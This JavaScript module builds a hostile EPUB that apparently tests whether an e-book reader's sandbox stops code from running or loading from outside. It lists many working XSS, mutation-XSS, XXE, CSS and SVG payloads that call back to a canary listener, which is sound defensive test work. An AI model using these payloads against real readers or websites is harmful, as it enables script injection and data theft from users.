// An EPUB that tries everything that we know of to run, to load from outside, to send or to
// lead away. It marks the top window where it runs and calls the canary where it reaches out.
import { zip } from './archive.mjs'

const html = (head, body, before = '') => `<?xml version="1.0" encoding="UTF-8"?>${before}
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><head><title>t</title>${head}</head><body>${body}</body></html>`

const mark = (how) => `try{top.mark='${how}'}catch(e){};try{parent.mark='${how}'}catch(e){};try{new Image().src=CANARY+'/ran-${how}'}catch(e){};try{top.location=CANARY+'/top-${how}'}catch(e){}`
const escape = (text) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')

/** The chapters as [name, media type, content]; canary is the address of the listener. */
export function chapters(canary) {
  const js = (how) => mark(how).replaceAll('CANARY', `'${canary}'`)
  const attr = (how) => escape(js(how))
  const data = (how) => `data:text/html,${encodeURIComponent(`<script>${js(how)}</script><img src="${canary}/${how}">`)}`
  return [
    ['script.xhtml', 'application/xhtml+xml', html(
      `<script>//<![CDATA[\n${js('inline')}\n//]]></script><script src="evil.js"></script><script src="${canary}/remote.js"></script><script type="module" src="evil.js"></script><script type="module">import('${canary}/module.js')</script>`,
      `<p id="chapter">script</p><img src="missing.png" onerror="${attr('onerror')}"/><img src="ok.svg" onload="${attr('onload')}"/><p onclick="${attr('onclick')}">text</p>
       <details open="open" ontoggle="${attr('ontoggle')}"><summary>s</summary>x</details><style onload="${attr('styleload')}">p{}</style>
       <body onload="${attr('body')}"/><video src="none.mp4" onerror="${attr('video')}"><source onerror="${attr('source')}" src="x"/></video>
       <p style="animation: x 1s" onanimationstart="${attr('animation')}">a</p><marquee onstart="${attr('marquee')}">m</marquee>`)],
    ['load.xhtml', 'application/xhtml+xml', html(
      `<base href="${canary}/base/"/><link rel="stylesheet" href="${canary}/sheet.css"/><link rel="stylesheet" href="style.css"/><link rel="prefetch" href="${canary}/prefetch"/><link rel="preload" as="image" href="${canary}/preload"/>
       <link rel="preconnect" href="${canary}"/><link rel="dns-prefetch" href="${canary}"/><link rel="modulepreload" href="${canary}/modulepreload.js"/><link rel="icon" href="${canary}/icon"/><link rel="manifest" href="${canary}/manifest"/>
       <style>@import "${canary}/import1.css"; @import url(${canary}/import2.css); @font-face{font-family:F;src:url(${canary}/font.woff2)} body{font-family:F;background:url("${canary}/bg.png")}
       p::before{content:url(${canary}/content.png)} ul{list-style:url('${canary}/list.png')} :root{--u:url(${canary}/var.png)} h1{background:var(--u)} h2{background:u\\72l(${canary}/escaped.png)}
       h3{background:image-set("${canary}/set.png" 1x)} h4{--v:u\\72l(${canary}/varescaped.png);background-image:var(--v)} h5{cursor:url(${canary}/cursor.png),auto} h6{mask-image:url(${canary}/mask.svg#m)}
       @media screen{div{background:url(${canary}/media.png)} @supports(display:block){section{border-image:url(${canary}/border.png) 1}}} article{&amp; p{background:url(${canary}/nested.png)}} @layer x{p{background:url(${canary}/layer.png)}}
       p{background:-webkit-image-set(url(${canary}/wset.png) 1x);shape-outside:url(${canary}/shape.png);filter:url(${canary}/filter.svg#f)}</style>`,
      `<p id="chapter">load</p><h1>1</h1><h2>2</h2><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6><div>d</div><section>s</section><ul><li>l</li></ul>
       <img src="${canary}/img.png"/><img src="//${canary.slice(7)}/schemeless.png"/><img srcset="${canary}/srcset.png 1x" src=""/><picture><source srcset="${canary}/picture.png"/><img src="ok.svg"/></picture>
       <p style="background:url(${canary}/inline.png)">x</p><p style="b\\61ckground:u\\72l(${canary}/inlineescaped.png)">x</p><table background="${canary}/table.png"><tr><td background="${canary}/td.png">t</td></tr></table>
       <video poster="${canary}/poster.png" src="${canary}/video.mp4" autoplay="autoplay"></video><audio src="${canary}/audio.mp3" autoplay="autoplay"></audio><video autoplay="autoplay"><source src="${canary}/source.mp4"/><track default="default" src="${canary}/track.vtt"/></video>
       <input type="image" src="${canary}/input.png"/><body background="${canary}/body.png"/>`)],
    ['frames.xhtml', 'application/xhtml+xml', html(
      `<meta http-equiv="refresh" content="0; url=${canary}/refresh"/><meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"/>`,
      `<p id="chapter">frames</p><iframe src="${canary}/iframe.html"></iframe><iframe src="${escape(data('dataframe'))}"></iframe><iframe srcdoc="${escape(`<script>${js('srcdoc')}</script><img src="${canary}/srcdoc.png">`)}"></iframe>
       <iframe src="javascript:${attr('jsframe')}"></iframe><iframe src="evil.html"></iframe><object data="${canary}/object.html"></object><object data="${escape(data('dataobject'))}"></object><object data="evil.svg" type="image/svg+xml"></object><embed src="${canary}/embed.html"/><embed src="evil.svg" type="image/svg+xml"/>
       <portal src="${canary}/portal"></portal><frameset><frame src="${canary}/frame"/></frameset><applet code="x" codebase="${canary}/applet"/><template><img src="${canary}/template.png"/></template><noscript><img src="${canary}/noscript.png"/></noscript>`)],
    ['form.xhtml', 'application/xhtml+xml', html('',
      `<p id="chapter">form</p><form id="f" action="${canary}/form" method="post" target="_top"><input name="a" value="b" autofocus="autofocus" onfocus="${attr('autofocus')}"/><button id="submit">send</button><input type="submit" formaction="${canary}/formaction" value="s"/></form>
       <button form="f" formaction="${canary}/button">b</button><div tabindex="0" autofocus="autofocus" onfocus="${attr('divfocus')}">d</div><div contenteditable="true" autofocus="autofocus" onfocus="${attr('editfocus')}">e</div><isindex action="${canary}/isindex" />`)],
    ['links.xhtml', 'application/xhtml+xml', html(`<base target="_top"/>`,
      `<p id="chapter">links</p><p><a class="evil" href="javascript:${attr('jslink')}">1</a> <a class="evil" href="java&#10;script:${attr('jsnewline')}">2</a> <a class="evil" href=" &#1;javascript:${attr('jscontrol')}">3</a>
       <a class="evil" target="_top" href="${canary}/top">4</a> <a class="evil" target="_blank" href="${canary}/blank">5</a> <a class="evil" target="_parent" href="${canary}/parent">6</a> <a class="evil" href="${canary}/self">7</a> <a class="evil" href="//${canary.slice(7)}/schemeless">8</a>
       <a class="evil" href="${escape(data('datalink'))}">9</a> <a class="evil" href="vbscript:x">10</a> <a class="evil" ping="${canary}/ping" href="script.xhtml">11</a> <a class="evil" href="evil.html">12</a> <a class="evil" href="blob:${canary}/x">13</a> <a class="evil" href="/\\\\${canary.slice(7)}/backslash">14</a>
       <a class="evil" download="x" href="${canary}/download">15</a> <map name="m"><area class="evil" shape="default" href="${canary}/area"/></map> <math xmlns="http://www.w3.org/1998/Math/MathML" href="${canary}/math"><mtext class="evil" href="javascript:${attr('mathlink')}">m</mtext><maction actiontype="statusline" href="${canary}/maction">x</maction></math></p>`.replaceAll('&#1;', ''))],
    ['svg.xhtml', 'application/xhtml+xml', html('',
      `<p id="chapter">svg</p><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100" onload="${attr('svgload')}"><script>${escape(js('svgscript'))}</script><script xlink:href="evil.js"/><script href="${canary}/svg.js"/>
       <foreignObject width="50" height="50"><body xmlns="http://www.w3.org/1999/xhtml"><script>${escape(js('foreign'))}</script><iframe src="${canary}/foreign.html"/><img src="x" onerror="${attr('foreignimg')}"/></body></foreignObject>
       <image href="${canary}/svgimage.png" width="9" height="9"/><image xlink:href="${canary}/svgxlink.png" width="9" height="9"/><use href="${canary}/use.svg#a"/><use xlink:href="evil.svg#a"/><feImage href="${canary}/feimage.png"/>
       <filter id="q"><feImage xlink:href="${canary}/fe.png"/></filter><rect filter="url(${canary}/f.svg#q)" fill="url(${canary}/fill.svg#q)" width="9" height="9"/><rect style="fill:url(${canary}/style.svg#q)" width="9" height="9"/><rect filter="url(#q)" width="9" height="9"/><rect fill="u\\72l(${canary}/fillescaped.svg#q)" width="9" height="9"/>
       <a class="evil" xlink:href="javascript:${attr('svglink')}"><text y="20">s</text></a><a class="evil" href="${canary}/svga" target="_top"><text y="40">t</text></a><a><animate attributeName="href" values="javascript:${attr('animate')}"/><text class="evil" y="60">u</text></a><set attributeName="onmouseover" to="${attr('set')}"/>
       <animate onbegin="${attr('begin')}" attributeName="x" dur="1s"/><style>@import "${canary}/svgstyle.css"; rect{fill:url(${canary}/svgfill.png#a)}</style><handler type="text/javascript" event="load">${escape(js('handler'))}</handler></svg>`)],
    ['entity.xhtml', 'application/xhtml+xml', html('', `<p id="chapter">entity</p><p>&ext; &run;</p>`,
      `<?xml-stylesheet type="text/css" href="${canary}/pi.css"?><?xml-stylesheet type="text/xsl" href="evil.xsl"?><?xml-stylesheet type="text/xsl" href="${canary}/pi.xsl"?><!DOCTYPE html [<!ENTITY ext SYSTEM "${canary}/entity"><!ENTITY % p SYSTEM "${canary}/parameter.dtd"> %p;<!ENTITY run "<script xmlns='http://www.w3.org/1999/xhtml'>${js('entity').replaceAll("'", '&#39;').replaceAll('"', '&#34;')}</script>">]>`)],
    // Not well-formed: the lenient HTML parser takes over, with all its odd corners.
    ['broken.xhtml', 'application/xhtml+xml', `<html><head><title>b</title><body><p id=chapter>broken<p><img src=x onerror="${js('broken')}"><svg><style><img src=x onerror=${"'"}${js('mutation').replaceAll("'", '"')}${"'"}></style></svg>
       <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${attr('mxss')}&gt;">
       <noscript><p title="</noscript><img src=${canary}/mnoscript onerror=${attr('noscript')}>"></noscript><form><math><mtext></form><form><mglyph><style></math><img src=${canary}/mform onerror=${attr('form')}>
       <select><template><style><!--</select><iframe src=${canary}/mselect></iframe></template><svg></p><style><a id="</style><img src=${canary}/mstyle onerror=${attr('style')}>">`],
    ['page.svg', 'image/svg+xml', `<?xml-stylesheet type="text/css" href="${canary}/svgpi.css"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100" onload="${attr('spinesvg')}"><script>${escape(js('spinescript'))}</script><image href="${canary}/spine.png" width="9" height="9"/><text id="chapter" y="50">page</text></svg>`],
    ['upper.html', 'Text/HTML; charset=utf-8', `<p id=chapter>upper</p><script>${js('uppertype')}</script><img src="${canary}/upper.png">`],
    ['plain.xml', 'application/xml', `<html xmlns="http://www.w3.org/1999/xhtml"><body><p id="chapter">xml</p><script>${escape(js('xmltype'))}</script><img src="${canary}/xml.png"/></body></html>`],
    ['odd.bin', 'application/x-unknown', `<html><script>${js('oddtype')}</script><img src="${canary}/odd.png"></html>`],
    ['multi.bin', 'multipart/x-mixed-replace', `<html><script>${js('multitype')}</script></html>`],
  ]
}

/** The book: its chapters in the order given, and what they refer to. */
export function hostileBook(canary) {
  const js = mark('bookjs').replaceAll('CANARY', `'${canary}'`)
  const all = chapters(canary)
  const extra = [
    ['evil.js', 'text/javascript', js],
    ['evil.html', 'text/html', `<script>${js}</script><img src="${canary}/evilhtml.png">`],
    ['evil.svg', 'image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" id="a" onload="${escape(js)}"><script>${escape(js)}</script><image href="${canary}/evilsvg.png"/></svg>`],
    ['ok.svg', 'image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" width="9" height="9"><image href="${canary}/oksvg.png" width="9" height="9"/><rect width="9" height="9"/></svg>`],
    ['style.css', 'text/css', `@import "${canary}/book.css"; @import "more.css"; @font-face{font-family:G;src:url(${canary}/bookfont.woff)} body{background:url(${canary}/book.png);font-family:G} #chapter{color:rgb(1,2,3)}`],
    ['more.css', 'text/css', `p{background:url(${canary}/more.png)} #chapter{text-indent:7px}`],
    ['evil.xsl', 'application/xslt+xml', `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><script>${escape(js)}</script></html></xsl:template></xsl:stylesheet>`],
  ]
  const items = [...all, ...extra]
  const manifest = items.map(([name, type], i) => `<item id="i${i}" href="${name}" media-type="${type}"/>`).join('')
  const spine = all.map((_, i) => `<itemref idref="i${i}"/>`).join('')
  const toc = all.map(([name]) => `<li><a href="${name}">${name}</a></li>`).join('') + `<li><a href="javascript:top.mark='toc'">js</a></li><li><a href="${canary}/toc">out</a></li>`
  return zip([
    ['mimetype', 'application/epub+zip'],
    ['META-INF/container.xml', `<?xml version="1.0"?><!DOCTYPE c [<!ENTITY x SYSTEM "${canary}/container">]><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>`],
    ['book.opf', `<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="u"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="u">x</dc:identifier><dc:title>Hostile &lt;img src=x onerror="top.mark='title'"&gt;</dc:title><dc:language>en</dc:language></metadata><manifest><item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>${manifest}</manifest><spine>${spine}</spine></package>`],
    ['nav.xhtml', html('', `<nav epub:type="toc"><ol>${toc}</ol></nav>`)],
    ...items.map(([name, , content]) => [name, content, { deflate: true }]),
  ])
}
